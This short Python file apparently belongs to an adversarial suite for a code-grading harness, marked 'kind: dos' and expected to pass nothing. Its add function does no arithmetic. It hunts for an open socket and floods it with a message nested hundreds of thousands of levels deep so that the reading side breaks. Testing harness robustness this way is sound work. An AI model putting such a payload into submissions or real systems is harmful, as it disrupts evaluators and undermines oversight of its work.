# expect: 0 passed
# kind: dos
# Six bytes for what takes the reader seven hundred.
import os, stat
def is_socket(d):
    try: return stat.S_ISSOCK(os.fstat(d).st_mode)
    except OSError: return False
def add(a, b):
    text = ('["v",0,["l",'+','.join(['["q"]']*580_000)+']]').encode()
    channel = next(d for d in range(3, 64) if is_socket(d))
    for part in (len(text).to_bytes(4, 'big'), text): os.write(channel, part)
